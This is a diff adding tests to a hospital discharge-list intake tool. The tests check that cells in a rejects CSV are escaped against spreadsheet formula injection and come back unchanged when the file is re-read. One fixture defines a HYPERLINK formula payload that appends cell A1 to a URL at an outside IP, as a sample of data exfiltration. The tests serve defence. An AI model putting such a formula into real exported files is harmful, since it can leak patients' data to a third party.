@@ -8,9 +8,14 @@ import stat
 import sys
 
 import pytest
+import workbooks
+from hypothesis import given
+from hypothesis import strategies as st
 
 from caretool.errors import FileError
 from caretool.intake import rejects
+from caretool.intake.layout import known_header
+from caretool.intake.opening import open_listings
 from caretool.intake.rows import Rejected
 
 HEADER = ("MRN", "Name", "Disch Date")
@@ -112,3 +117,69 @@ def test_a_place_that_cannot_be_written_to_is_one_clear_error(tmp_path):
     with pytest.raises(FileError, match="the rejected rows cannot be written") as caught:
         rejects.write_to(tmp_path / "no" / "folder.csv", b"rows")
     assert "--rejects" in caught.value.hint
+
+
+# what a spreadsheet program would run
+
+
+def opened(body):
+    (listing,) = open_listings(body, name="list.rejects.csv", known=known_header("discharges"))
+    return listing
+
+
+FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"look")'
+
+
+def test_no_cell_of_a_rejects_file_runs_in_a_spreadsheet_program():
+    row = Rejected(7, 6, "-Disch Date", "@x", f"{FORMULA} is no date", ("+1", FORMULA, "@x"), "r")
+    body = rejects.content(
+        ("MRN", "Name", "-Disch Date"), ",", [row], "mdy", titles=["=Title", "St. Brigid"]
+    )
+    found = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    assert found[0] == ["'=Title"]
+    assert found[2][:3] == ["MRN", "Name", "'-Disch Date"]
+    assert found[3][:6] == ["'+1", f"'{FORMULA}", "'@x", "7", "'-Disch Date", "'@x"]
+    assert not [one for line in found for one in line if one[:1] in tuple("=+-@\t\r\n")]
+
+
+def test_the_corrected_file_is_read_without_its_guards():
+    row = WRONG._replace(cells=("-7", "=Cmd, Ann", "@x"))
+    listing = opened(rejects.content(HEADER, ",", [row], None, titles=["=Title"]))
+    assert listing.titles == ("=Title",)
+    assert listing.header[:3] == HEADER
+    ((_, _, cells),) = listing
+    assert cells[:3] == ["-7", "=Cmd, Ann", "@x"]
+
+
+def test_so_it_is_when_it_was_saved_as_a_workbook():
+    names = (*HEADER, *rejects.COLUMNS)
+    cells = ("'-7", "'=Cmd, Ann", "11/20/2026", 7, "Name", "'=Cmd, Ann", "why", "rule", "mdy")
+    listing = opened(workbooks.xlsx({"List": workbooks.sheet({1: names, 2: cells})}))
+    assert listing.format == "workbook"
+    ((_, _, found),) = listing
+    assert found[:3] == ["-7", "=Cmd, Ann", "11/20/2026"]
+
+
+def test_an_apostrophe_in_any_other_file_is_part_of_its_cell():
+    listing = opened(b"MRN,Name,Disch Date\r\n'-7,\"'=Cmd, Ann\",11/20/2026\r\n")
+    ((_, _, cells),) = listing
+    assert cells == ["'-7", "'=Cmd, Ann", "11/20/2026"]
+
+
+@given(
+    st.lists(
+        st.text(st.sampled_from([*"=+-@'\"aZ1é,; \t\n", "\uff1d"]), min_size=1, max_size=9).map(
+            lambda text: f"{text.strip()}."  # blanks at its ends are nothing to a list's cell
+        ),
+        min_size=2,
+        max_size=2,
+    )
+)
+def test_whatever_is_rejected_comes_back_as_it_was(texts):
+    row = WRONG._replace(cells=("1", *texts), value=texts[0])
+    listing = opened(rejects.content(HEADER, ",", [row], None))
+    ((_, _, cells),) = listing
+    assert cells[:3] == ["1", *texts]
+    again = Rejected(2, 1, "Name", texts[0], "still wrong", tuple(cells), "r")
+    ((_, _, twice),) = opened(rejects.content(listing.header, ",", [again], None))
+    assert twice[:3] == ["1", *texts], "also the second time"
